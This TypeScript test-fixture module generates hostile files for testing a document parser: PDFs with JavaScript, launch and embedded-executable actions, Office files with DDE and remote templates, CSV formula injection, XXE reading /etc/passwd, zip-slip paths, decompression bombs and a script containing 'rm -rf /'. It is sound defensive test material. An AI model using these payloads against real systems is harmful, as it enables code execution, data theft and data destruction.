/** Hostile documents, tables, mails, chats, texts, programs and web archives. */
import { gzipSync } from 'node:zlib'
import { files, type HostileFile, raw, text } from './hostile-file.ts'
import { rawZip } from './raw-zip.ts'

/** A PDF from its objects, with a right table of places. */
const pdf = (objects: readonly string[], trailer = ''): Uint8Array => {
  let body = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const at = body.length
    body += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  return raw(
    `${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${body.length}\n%%EOF`,
  )
}
const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>'
const pages = (count = 1, kids = '3 0 R'): string => `<</Type/Pages/Count ${count}/Kids[${kids}]>>`
const simple = (catalog: string, ...more: string[]): Uint8Array =>
  pdf([`<</Type/Catalog/Pages 2 0 R${catalog}>>`, pages(), page, ...more])

const pdfs = (trap: string): HostileFile[] => [
  ...files(['read'], {
    'script.pdf': simple(`/OpenAction<</S/JavaScript/JS(app.launchURL\\('${trap}'\\))>>`),
    'launch.pdf': simple('/OpenAction<</S/Launch/F(/bin/sh)>>'),
    'submit.pdf': simple(`/OpenAction<</S/SubmitForm/F(${trap})>>`),
    'remote.pdf': simple(`/OpenAction<</S/GoToR/F<</FS/URL/F(${trap})>>/D[0/Fit]>>`),
    'huge-page.pdf': pdf([
      '<</Type/Catalog/Pages 2 0 R>>',
      pages(),
      page.replace('200 200', '9999999 9999999'),
    ]),
    'carries.pdf': simple(
      '/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>',
      '<</Type/Filespec/F(../../a.exe)/EF<</F 5 0 R>>>>',
      '<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream',
    ),
    'deep.pdf': simple(`/Deep ${'['.repeat(2_000)}${']'.repeat(2_000)}`),
  }),
  ...files(['quarantined', 'read'], {
    'head-only.pdf': raw('%PDF-1.4\n'),
    'deeper.pdf': simple(`/Deep ${'<</A'.repeat(50_000)}`),
    'loop.pdf': pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[2 0 R]>>']),
    'pages-claimed.pdf': pdf(['<</Type/Catalog/Pages 2 0 R>>', pages(2_000_000_000), page]),
    'length-lie.pdf': pdf([
      '<</Type/Catalog/Pages 2 0 R>>',
      pages(),
      `${page.slice(0, -2)}/Contents 4 0 R>>`,
      '<</Length 999999999>>stream\nq\nendstream',
    ]),
    'self.pdf': pdf(['1 0 R', '2 0 R', '3 0 R']),
    'inside.pdf': raw(`${'x'.repeat(500)}%PDF-1.4\nnothing`),
    'locked.pdf': pdf(
      ['<</Type/Catalog/Pages 2 0 R>>', pages(), page],
      '/Encrypt<</Filter/Standard/V 1/R 2/O(12345678901234567890123456789012)/U(12345678901234567890123456789012)/P -4>>/ID[(a)(a)]',
    ),
    'million.pdf': simple('', `<</Length 3000000>>stream\n${'q '.repeat(1_500_000)}\nendstream`),
  }),
]

const types = {
  name: '[Content_Types].xml',
  data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
}
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const rels = (target: string) => ({
  name: '_rels/.rels',
  data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/officeDocument" Target="${target}"/></Relationships>`,
})
const word = (body: string, head = '') => ({
  name: 'word/document.xml',
  data: `<?xml version="1.0"?>${head}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
})
const said = '<w:p><w:r><w:t>Room for rent</w:t></w:r></w:p>'
const docx = (body: string, more: Parameters<typeof rawZip>[0] = [], head = '') =>
  rawZip([types, rels('word/document.xml'), word(body, head), ...more])
const sheet = (rows: string) =>
  rawZip([
    types,
    rels('xl/workbook.xml'),
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    },
    {
      name: 'xl/workbook.xml',
      data: `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${office}"><sheets><sheet name="S" sheetId="1" state="veryHidden" r:id="r1"/></sheets></workbook>`,
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      data: `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${rows}</worksheet>`,
    },
  ])

const offices = (trap: string): HostileFile[] => [
  ...files(['read'], {
    'template.docx': docx(said, [
      {
        name: 'word/_rels/settings.xml.rels',
        data: `<Relationships><Relationship Id="r" Type="${office}/attachedTemplate" Target="${trap}/t.dotm" TargetMode="External"/></Relationships>`,
      },
    ]),
    'macro.docm': docx(said, [{ name: 'word/vbaProject.bin', data: 'x' }]),
    'dde.xlsx': sheet(
      `<sheetData><row r="1"><c r="A1"><f>cmd|'/c calc'!A1</f><v>0</v></c><c r="B1"><f>WEBSERVICE("${trap}")</f><v>1</v></c></row></sheetData>`,
    ),
    'wide.xlsx': sheet(
      '<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
    ),
    'formulas.csv': text(`name,value\n=HYPERLINK("${trap}"),1\n+cmd|'/c calc'!A1,2\n@SUM(A1),3\n-2+3,4\n`),
    'open-quote.csv': text(`a,b\n"never closed,1\n${'x,y\n'.repeat(1_000)}`),
    'commas.csv': text(`a,b\n${','.repeat(500_000)}\n`),
    'object.rtf': raw(
      `{\\rtf1\\ansi Room{\\object\\objemb{\\*\\objdata ${'41'.repeat(2_000)}}}{\\*\\template ${trap}}}`,
    ),
    'deep.rtf': raw(`{\\rtf1 ${'{'.repeat(200_000)}x`),
  }),
  ...files(['quarantined', 'read'], {
    'entity.docx': docx(
      '<w:p><w:r><w:t>&x;</w:t></w:r></w:p>',
      [],
      `<!DOCTYPE w [<!ENTITY x SYSTEM "${trap}">]>`,
    ),
    'laughs.docx': docx(
      '<w:p><w:r><w:t>&c;</w:t></w:r></w:p>',
      [],
      '<!DOCTYPE w [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    ),
    'empty.docx': rawZip([types, { name: 'word/document.xml', data: '' }]),
    'deep.docx': docx('<w:p>'.repeat(20_000)),
    'garbage.xls': raw(
      `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'W\0o\0r\0k\0b\0o\0o\0k\0'}${'\xff'.repeat(2_000)}`,
    ),
  }),
  ...files(['quarantined'], {
    'bomb.docx': docx(said, [
      { name: 'word/media/image1.bmp', data: new Uint8Array(40_000_000), deflate: true },
    ]),
    'slip.docx': docx(said, [{ name: '../evil.xml', data: 'x' }]),
    'locked.docx': raw(
      `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(500)}${[...'EncryptedPackage'].map((char) => `${char}\0`).join('')}${'\0'.repeat(500)}`,
    ),
  }),
  ...files(['refused'], {
    'old.doc': raw(
      `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(500)}${[...'WordDocument'].map((char) => `${char}\0`).join('')}`,
    ),
    'note.msg': raw(
      `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(500)}${[...'__substg1.0_'].map((char) => `${char}\0`).join('')}`,
    ),
    'unknown.bin': raw('\x01\x02\x03\x04\xfe\xdc\0\0'.repeat(40)),
    'empty.txt': new Uint8Array(0),
  }),
]

const mail = (headers: string, body: string): Uint8Array =>
  text(`From: a@example.org\r\nTo: b@example.org\r\nSubject: Room\r\n${headers}\r\n\r\n${body}`)
const nestedMail = (depth: number): Uint8Array => {
  let body = 'Content-Type: text/plain\r\n\r\nend'
  for (let level = 0; level < depth; level += 1)
    body = `Content-Type: multipart/mixed; boundary="b${level}"\r\n\r\n--b${level}\r\n${body}\r\n--b${level}--`
  return text(`From: a@example.org\r\nSubject: x\r\n${body}`)
}

const letters = (trap: string): HostileFile[] => [
  ...files(['read'], {
    'fetch.eml': mail(
      'Content-Type: text/html',
      `<img src="${trap}/p.gif"><link rel=stylesheet href="${trap}/s.css"><script src="${trap}/x.js"></script><p>Room</p>`,
    ),
    'attached-slip.eml': mail(
      'Content-Type: multipart/mixed; boundary=b',
      '--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename="../../../tmp/hostile-mail.txt"\r\n\r\nx\r\n--b--',
    ),
    'no-boundary.eml': mail('Content-Type: multipart/mixed', 'text'),
    'bad-base64.eml': mail(
      'Content-Type: text/plain\r\nContent-Transfer-Encoding: base64',
      '!!!! not base64 ====\r\n'.repeat(200),
    ),
    'bad-charset.eml': mail('Content-Type: text/plain; charset=no-such-thing', 'Grüße'),
    'from-now-on.mbox': text(
      `From a@example.org Mon Jan  1 10:00:00 2024\nFrom: a@example.org\nSubject: one\n\nFrom now on\n\nFrom b@example.org Mon Jan  1 11:00:00 2024\nFrom: b@example.org\nSubject: two\n\ntext\n`,
    ),
  }),
  ...files(['quarantined', 'read'], {
    'nested-200.eml': nestedMail(200),
    'nested-5000.eml': nestedMail(5_000),
    'long-header.eml': mail(`X-Long: ${'a'.repeat(3_000_000)}`, 'x'),
    'many-headers.eml': mail(Array.from({ length: 50_000 }, (_, index) => `X-${index}: y`).join('\r\n'), 'x'),
  }),
]

const texts = (trap: string): HostileFile[] => [
  ...files(['read'], {
    'turned.txt': text('Transfer \u202e005 RPN\u202c to the room'),
    'no-width.txt': text('r\u200bo\u200bo\u200bm f\u2060or rent\ufeff'),
    'not-utf8.txt': raw('room \xff\xfe\x80 for rent \xc0\xaf'),
    'lone.txt': new Uint8Array(Buffer.from('\ufeffroom \ud800 rent', 'utf16le')),
    'one-line.txt': text('room '.repeat(1_000_000)),
    'deep.json': text('['.repeat(200_000)),
    'pollute.json': text(
      '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"messages":[{"date":"2024-01-01T00:00:00","text":"x","__proto__":{"x":1}}],"type":"personal_chat"}',
    ),
    'stamps.txt': text(`1/1/24, 10:00 - A: x\n${'1/1/24, 10:00 '.repeat(20_000)}\n1/1/24, 10:01 - B: y\n`),
    'brackets.txt': text(`[1/1/24, 10:00:00] A: x\n${'['.repeat(300_000)}\n[1/1/24, 10:01:00] B: y\n`),
    'script.html': text(
      `<html><script>fetch('${trap}')</script><img src=x onerror="fetch('${trap}')"><iframe src="${trap}"></iframe><p>Room</p></html>`,
    ),
    'deep.html': text(`<html>${'<div>'.repeat(200_000)}x`),
    'open-tags.html': text(`<html>${'<a href="'.repeat(50_000)}`),
    'open-comment.html': text(`<html>${'<!--'.repeat(200_000)}`),
    'entity.xml': text(
      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "${trap}"><!ENTITY f SYSTEM "file:///etc/passwd">]><r>&x;&f;</r>`,
    ),
    'stylesheet.xsl': text(
      `<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('${trap}')"/></xsl:template></xsl:stylesheet>`,
    ),
    'run.sh': text('#!/bin/sh\nrm -rf /\n'),
    'photo.jpg.exe': text('not a program'),
  }),
  ...files(
    ['quarantined'],
    {
      'elf.txt': raw(`\x7fELF\x02\x01\x01${'\0'.repeat(200)}`),
      'windows.exe': raw(`MZ${'\0'.repeat(58)}\x40\0\0\0PE\0\0${'\0'.repeat(100)}`),
      'mac.bin': raw(`\xcf\xfa\xed\xfe${'\0'.repeat(100)}`),
      'photo.lnk': raw(`L\0\0\0\x01\x14\x02\0${'\0'.repeat(100)}`),
      'app.apk': rawZip([
        { name: 'AndroidManifest.xml', data: 'x' },
        { name: 'classes.dex', data: 'dex' },
      ]),
      'code.wasm': raw('\0asm\x01\0\0\0'),
    },
    'file.program',
  ),
]

const warc = (length: string, body = 'x'): string =>
  `WARC/1.1\r\nWARC-Type: resource\r\nWARC-Target-URI: http://example.org/\r\nWARC-Date: 2024-01-01T00:00:00Z\r\nContent-Length: ${length}\r\n\r\n${body}\r\n\r\n`

const archives = (): HostileFile[] => [
  ...files(['quarantined'], {
    'length-large.warc': text(warc('99999999999')),
    'length-none.warc': text(warc('many')),
    'zeros.warc.gz': new Uint8Array(gzipSync(Buffer.alloc(120_000_000))),
    'slip.wacz': rawZip([
      { name: 'datapackage.json', data: '{}' },
      { name: 'archive/../../x.warc', data: 'x' },
    ]),
  }),
  ...files(['read'], {
    'length-small.warc': text(warc('1', 'xxxxxxxx')),
    'twice.warc': text(warc('1') + warc('1')),
    'broken-inside.wacz': rawZip([
      { name: 'datapackage.json', data: '{"title":"x"}' },
      { name: 'archive/a.warc', data: 'no warc' },
    ]),
  }),
]

/** All of them; `trap` is an address on loopback that must never be asked. */
export const makePapers = (trap: string): HostileFile[] => [
  ...pdfs(trap),
  ...offices(trap),
  ...letters(trap),
  ...texts(trap),
  ...archives(),
]
